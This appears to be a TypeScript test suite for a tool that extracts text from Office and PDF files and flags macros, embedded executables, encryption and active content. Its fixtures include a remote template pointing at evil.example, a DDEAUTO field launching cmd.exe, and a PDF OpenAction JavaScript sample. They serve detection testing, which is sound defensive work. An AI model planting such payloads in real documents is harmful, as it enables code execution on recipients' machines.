import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { strToU8 } from 'fflate';
import {
  codesOf,
  compoundFile,
  inFolder,
  inspected,
  pdfOf,
  runIn,
  saidIn,
  wordDocument,
  zipOf,
} from '../../support/inspected.ts';
import { DEBIAN_PYTHON, requireCommands, requireModules } from '../../support/requirements.ts';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const MAKE_DOCX = `
import docx
document = docx.Document()
document.add_heading('Quarterly report')
paragraph = document.add_paragraph('The mer')
paragraph.add_run('ger').bold = True
table = document.add_table(1, 2)
table.cell(0, 0).text, table.cell(0, 1).text = 'left', 'right'
document.sections[0].header.paragraphs[0].text = 'in the header'
document.core_properties.title = 'in the properties'
document.save('a.docx')
`;

const MAKE_XLSX = `
import openpyxl
from openpyxl.comments import Comment
book = openpyxl.Workbook()
sheet = book.active
sheet.title = 'Q1 & Q2'
sheet.append(['Revenue', 12.5, '=SUM(B1:B1)'])
sheet['A2'] = 'noted'
sheet['A2'].comment = Comment('in the comment', 'somebody')
hidden = book.create_sheet('Hidden')
hidden.sheet_state = 'hidden'
hidden['A1'] = 'in the hidden sheet'
book.save('a.xlsx')
`;

const PRESENTATION = zipOf({
  '[Content_Types].xml':
    '<Types><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>',
  'ppt/presentation.xml': '<p:presentation/>',
  'ppt/slides/slide2.xml': '<p:sld><a:p><a:r><a:t>on the slide</a:t></a:r></a:p></p:sld>',
  'ppt/notesSlides/notesSlide1.xml': '<p:notes><a:p><a:r><a:t>in the notes</a:t></a:r></a:p></p:notes>',
});

const WORKBOOK = zipOf({
  '[Content_Types].xml':
    '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
  'xl/workbook.xml': '<workbook><sheets><sheet name="Q1" sheetId="1" r:id="rId7"/></sheets></workbook>',
  'xl/_rels/workbook.xml.rels':
    '<Relationships><Relationship Id="rId7" Target="worksheets/sheet1.xml"/></Relationships>',
  'xl/sharedStrings.xml': '<sst><si><t>first</t></si><si><r><t>second</t></r><r><t> one</t></r></si></sst>',
  'xl/worksheets/sheet1.xml':
    '<worksheet><sheetData><row><c t="s"><v>1</v></c><c><v>7</v></c><c t="s"><v>0</v></c></row><row><c t="s"><v>0</v></c></row></sheetData></worksheet>',
});

function external(kind: string): string {
  const type = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}`;
  return `<Relationships><Relationship Id="r" Type="${type}" Target="http://evil.example/x" TargetMode="External"/></Relationships>`;
}

describe('a document', () => {
  it('of Word is read: paragraphs, tables, headers, properties', async (t) => {
    if (!requireModules(t, ['docx'], 'python3-docx')) return;
    await inFolder(async (folder) => {
      runIn(folder, DEBIAN_PYTHON, '-c', MAKE_DOCX);
      const found = await inspected('a.docx', readFileSync(join(folder, 'a.docx')), DOCX);
      assert.deepEqual([found.type, found.mismatch, found.failed, codesOf(found)], [DOCX, false, null, []]);
      const main = found.texts.find(({ place }) => place === 'a.docx')?.text ?? '';
      assert.equal(main, 'Quarterly report\nThe merger\nleft\n\tright\n\t\n');
      for (const said of ['in the header', 'in the properties'])
        assert.ok(saidIn(found).includes(said), said);
    });
  });

  it('of Excel is read: names of sheets, shared strings, formulas, comments, what is hidden', async (t) => {
    if (!requireModules(t, ['openpyxl'], 'python3-openpyxl')) return;
    await inFolder(async (folder) => {
      runIn(folder, DEBIAN_PYTHON, '-c', MAKE_XLSX);
      const found = await inspected('a.xlsx', readFileSync(join(folder, 'a.xlsx')), XLSX);
      assert.deepEqual([found.type, found.mismatch, found.failed, codesOf(found)], [XLSX, false, null, []]);
      const at = (place: string): string | undefined =>
        found.texts.find((text) => text.place === place)?.text;
      assert.equal(at('a.xlsx, sheet "Q1 & Q2"'), 'Revenue\t12.5\t=SUM(B1:B1) \t\nnoted\t\n');
      assert.equal(at('a.xlsx, sheet "Hidden"'), 'in the hidden sheet\t\n');
      assert.ok(saidIn(found).includes('in the comment'));
    });
  });

  it('of Excel is read where cells refer to strings, however often', async () => {
    const found = await inspected('a.xlsx', WORKBOOK);
    assert.deepEqual([found.type, found.failed], [XLSX, null]);
    assert.deepEqual(found.texts, [
      { place: 'a.xlsx, sheet "Q1"', text: 'second one\t7\tfirst\t\nfirst\t\n' },
    ]);
  });

  it('of PowerPoint is read: slides and notes', async () => {
    const found = await inspected('a.pptx', PRESENTATION);
    assert.deepEqual([found.failed, found.mismatch], [null, false]);
    assert.deepEqual(found.texts, [
      { place: 'a.pptx, slide 2', text: 'on the slide\n' },
      { place: 'a.pptx, ppt/notesSlides/notesSlide1.xml', text: 'in the notes\n' },
    ]);
  });

  it('of OpenDocument is read, and its macros are told of', async () => {
    const parts = {
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml': '<office:body><text:p>one<text:s/>two</text:p><text:p>three</text:p></office:body>',
      'META-INF/manifest.xml': '<manifest:manifest/>',
    };
    const found = await inspected('a.odt', zipOf(parts));
    assert.deepEqual([codesOf(found), found.texts], [[], [{ place: 'a.odt', text: 'one\ttwo\nthree\n' }]]);
    const macros = zipOf({
      ...parts,
      'Basic/Standard/Module1.xml': '<script:module>Sub Main</script:module>',
    });
    assert.deepEqual(codesOf(await inspected('a.odt', macros)), ['macro']);
    const manifest =
      '<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>';
    assert.equal(
      (await inspected('a.odt', zipOf({ ...parts, 'META-INF/manifest.xml': manifest }))).encrypted,
      true,
    );
  });

  it('that carries macros is told of, whatever it is called', async () => {
    const vba = { 'word/vbaProject.bin': compoundFile(['VBA', 'dir']) };
    const found = await inspected('a.docx', wordDocument('words', vba));
    assert.ok(codesOf(found).includes('macro'));
    assert.equal(saidIn(found).trim(), 'words');
    const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
    const renamed = await inspected('a.docx', wordDocument('words', vba, macroType), DOCX);
    assert.deepEqual([renamed.mismatch, codesOf(renamed).includes('macro')], [true, true]);
    assert.deepEqual(codesOf(await inspected('a.doc', compoundFile(['WordDocument', 'Macros', 'VBA']))), [
      'macro',
    ]);
  });

  it('that fetches its template from elsewhere is told of; one with a link that people follow is not', async () => {
    const template = wordDocument('words', { 'word/_rels/settings.xml.rels': external('attachedTemplate') });
    assert.deepEqual(codesOf(await inspected('a.docx', template)), ['external-content']);
    const link = wordDocument('words', { 'word/_rels/document.xml.rels': external('hyperlink') });
    assert.deepEqual(codesOf(await inspected('a.docx', link)), []);
  });

  it('whose field starts a program is told of', async () => {
    const field = {
      'word/footer1.xml':
        '<w:ftr><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:ftr>',
    };
    assert.deepEqual(codesOf(await inspected('a.docx', wordDocument('words', field))), ['formula']);
  });

  it('is inspected with the files in it', async () => {
    const inner = {
      'word/embeddings/book.docx': wordDocument('in the inner one'),
      'word/media/run.exe': strToU8('MZ'),
    };
    const found = await inspected('a.docx', wordDocument('words', inner));
    assert.ok(saidIn(found).includes('in the inner one'));
    assert.deepEqual(codesOf(found), ['executable', 'type-mismatch']);
    const packaged = { 'word/embeddings/oleObject1.bin': compoundFile(['\u0001Ole10Native']) };
    const object = await inspected('a.docx', wordDocument('words', packaged));
    assert.deepEqual([codesOf(object), object.failed === null], [['embedded-object'], false]);
  });

  it('is not failed for the fonts and settings of a printer in it, which are bytes of no known kind', async () => {
    const parts = {
      'word/fonts/font1.odttf': Buffer.from([1, 2, 0, 4, 5]),
      'word/printerSettings1.bin': Buffer.from([1, 0, 3]),
    };
    assert.equal((await inspected('a.docx', wordDocument('words', parts))).failed, null);
    assert.notEqual(
      (await inspected('a.docx', wordDocument('words', { 'word/x.bin': Buffer.from([1, 0, 3]) }))).failed,
      null,
    );
  });

  it('that needs a password is encrypted', async () => {
    const found = await inspected('a.docx', compoundFile(['EncryptionInfo', 'EncryptedPackage']), DOCX);
    assert.deepEqual([found.encrypted, found.failed, found.texts], [true, null, []]);
  });

  it('of the old binary Office is failed: its text is not read', async () => {
    assert.match((await inspected('a.xls', compoundFile(['Workbook']))).failed ?? '', /not read/);
  });
});

describe('a PDF', () => {
  it('made by Ghostscript is read page by page', async (t) => {
    if (!requireCommands(t, ['gs'], 'ghostscript')) return;
    await inFolder(async (folder) => {
      const page = (text: string): string =>
        `/Helvetica findfont 12 scalefont setfont 72 720 moveto (${text}) show showpage\n`;
      writeFileSync(join(folder, 'a.ps'), `%!PS\n${page('on the first page')}${page('on the second page')}`);
      runIn(
        folder,
        'gs',
        '-q',
        '-dSAFER',
        '-dBATCH',
        '-dNOPAUSE',
        '-sDEVICE=pdfwrite',
        '-sOutputFile=a.pdf',
        'a.ps',
      );
      const found = await inspected('a.pdf', readFileSync(join(folder, 'a.pdf')), 'application/pdf');
      assert.deepEqual(
        [found.type, found.mismatch, found.failed, codesOf(found)],
        ['application/pdf', false, null, []],
      );
      assert.deepEqual(found.texts.slice(0, 2), [
        { place: 'a.pdf, page 1', text: 'on the first page' },
        { place: 'a.pdf, page 2', text: 'on the second page' },
      ]);
    });
  });

  it('is encrypted where it needs a password to be opened; read where it needs one only to be changed', async (t) => {
    if (!requireCommands(t, ['qpdf'], 'qpdf')) return;
    await inFolder(async (folder) => {
      writeFileSync(join(folder, 'a.pdf'), pdfOf('words'));
      runIn(folder, 'qpdf', '--encrypt', 'user', 'owner', '256', '--', 'a.pdf', 'locked.pdf');
      runIn(folder, 'qpdf', '--encrypt', '', 'owner', '256', '--', 'a.pdf', 'signed.pdf');
      const locked = await inspected('locked.pdf', readFileSync(join(folder, 'locked.pdf')));
      assert.deepEqual([locked.encrypted, locked.failed, locked.texts], [true, null, []]);
      const open = await inspected('signed.pdf', readFileSync(join(folder, 'signed.pdf')));
      assert.deepEqual([open.encrypted, open.texts[0]?.text], [false, 'words']);
    });
  });

  it('is inspected with the files in it', async (t) => {
    if (!requireCommands(t, ['qpdf'], 'qpdf')) return;
    await inFolder(async (folder) => {
      writeFileSync(join(folder, 'a.pdf'), pdfOf('words'));
      writeFileSync(join(folder, 'inner.docx'), wordDocument('in the inner one'));
      runIn(folder, 'qpdf', 'a.pdf', '--add-attachment', 'inner.docx', '--', 'b.pdf');
      const found = await inspected('b.pdf', readFileSync(join(folder, 'b.pdf')));
      assert.deepEqual([found.failed, codesOf(found)], [null, ['embedded-object']]);
      assert.deepEqual(
        found.texts.find(({ place }) => place === 'b.pdf/inner.docx')?.text,
        'in the inner one\n',
      );
    });
  });

  it('is inspected with the files that notes on its pages carry', async () => {
    const file = '<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>';
    const note = `/Annots [ << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS ${file} >> ]`;
    const embedded = '<< /Type /EmbeddedFile /Length 5 >>\nstream\nwords\nendstream';
    const found = await inspected('a.pdf', pdfOf('page', '', note, [embedded]));
    assert.deepEqual([found.failed, found.texts.at(-1)], [null, { place: 'a.pdf/run.exe', text: 'words' }]);
    assert.ok(codesOf(found).includes('executable'));
  });

  it('that runs a script when it is opened is told of, also where that is compressed', async (t) => {
    const script = pdfOf('words', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>');
    assert.deepEqual(codesOf(await inspected('a.pdf', script)), ['active-content']);
    assert.deepEqual(codesOf(await inspected('a.pdf', pdfOf('words'))), []);
    if (!requireCommands(t, ['qpdf'], 'qpdf')) return;
    await inFolder(async (folder) => {
      writeFileSync(join(folder, 'a.pdf'), script);
      runIn(folder, 'qpdf', '--object-streams=generate', 'a.pdf', 'b.pdf');
      const packed = readFileSync(join(folder, 'b.pdf'));
      assert.ok(!packed.includes('JavaScript'));
      assert.deepEqual(codesOf(await inspected('b.pdf', packed)), ['active-content']);
    });
  });

  it('is read with its notes and properties', async () => {
    const note = '/Annots [ << /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (in the note) >> ]';
    const found = await inspected('a.pdf', pdfOf('words', '', note));
    assert.deepEqual(found.texts[1], { place: 'a.pdf, page 1, notes', text: 'in the note' });
  });

  it('that is damaged is failed', async () => {
    const found = await inspected('a.pdf', '%PDF-1.7\nnothing of the kind\n');
    assert.deepEqual([found.type, found.failed === null], ['application/pdf', false]);
  });
});
